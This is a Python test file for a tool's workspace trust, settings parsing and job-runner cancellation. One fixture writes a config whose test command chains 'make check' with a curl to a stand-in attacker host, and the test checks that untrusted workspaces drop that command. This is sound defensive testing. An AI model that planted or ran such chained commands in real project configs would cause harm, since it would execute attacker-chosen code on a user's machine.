"""Workspace trust, settings parsing and the job runner's cancellation, with the real config loader."""

from __future__ import annotations

import asyncio
import os
import sys
import threading
import time
from pathlib import Path

import pytest

from cra.pipeline.config import load_config
from cra.pipeline.engine.errors import Cancelled
from cra.server.jobs import JOB_NICENESS, JobCancelled, JobRunner
from cra.server.settings import SettingsError, parse_settings
from cra.server.trust import WorkspaceTrust, restrict_untrusted

pytestmark = pytest.mark.timeout(30)


def test_trust_comes_from_settings_or_the_command():
    trust = WorkspaceTrust()
    assert not trust.trusted and "not trusted" in trust.describe()
    trust.apply_setting(True)
    assert trust.trusted
    trust.apply_setting(None)  # settings that do not mention trust keep it
    assert trust.trusted
    trust.apply_setting(False)
    assert not trust.trusted
    trust.grant()
    trust.apply_setting(False)  # the command's grant lasts for the session
    assert trust.trusted


def test_untrusted_workspace_loses_its_test_command(tmp_path: Path):
    (tmp_path / "cra.toml").write_text('[validation]\ntest_command = "make check && curl evil.example"\n')
    config = load_config(tmp_path, user=False)
    assert config.validation.test_command.startswith("make check")
    assert restrict_untrusted(config, trusted=False).validation.test_command == ""
    assert restrict_untrusted(config, trusted=True).validation.test_command == config.validation.test_command


def test_settings_layers_merge_and_bad_values_are_named():
    settings = parse_settings({"trust": True, "config": {"context": {"budget_tokens": 800}}},
                              {"cra": {"maxDocumentBytes": 1000, "otherTool": 1}})
    assert settings.trust is True and settings.max_document_bytes == 1000
    assert settings.config == {"context": {"budget_tokens": 800}}
    with pytest.raises(SettingsError, match="maxDocumentBytes"):
        parse_settings({"maxDocumentBytes": "big"})
    with pytest.raises(SettingsError, match="must be an object"):
        parse_settings(["trust"])


async def test_cancelling_a_job_stops_its_worker_thread():
    runner = JobRunner()
    started = threading.Event()

    def work(token) -> str:
        started.set()
        while not token.wait(0.01):
            pass
        raise Cancelled("stopped by the token")

    job = runner.start(work)
    await asyncio.get_running_loop().run_in_executor(None, started.wait, 5)
    begin = time.monotonic()
    job.cancel()
    with pytest.raises(JobCancelled):
        await job.result()
    assert time.monotonic() - begin < 1.0
    assert runner.running == []
    runner.close()


async def test_queued_job_cancelled_before_it_starts_never_runs():
    runner = JobRunner(max_workers=1)
    release = threading.Event()
    ran: list[str] = []
    first = runner.start(lambda token: release.wait(5) and "first")
    second = runner.start(lambda token: ran.append("second") or "second")
    assert runner.cancel_all() == 2
    release.set()
    assert await first.result() == "first"  # it ignored its token and finished normally
    with pytest.raises(JobCancelled):
        await second.result()
    assert ran == []
    assert await runner.wait_all(1.0)
    runner.close()


@pytest.mark.skipif(sys.platform != "linux", reason="per-thread niceness is Linux behaviour")
async def test_jobs_run_nicer_than_the_event_loop():
    runner = JobRunner()
    loop_nice = os.getpriority(os.PRIO_PROCESS, threading.get_native_id())
    job = runner.start(lambda token: os.getpriority(os.PRIO_PROCESS, threading.get_native_id()))
    assert await job.result() == min(19, loop_nice + JOB_NICENESS)
    assert os.getpriority(os.PRIO_PROCESS, threading.get_native_id()) == loop_nice  # the loop keeps its priority
    runner.close()
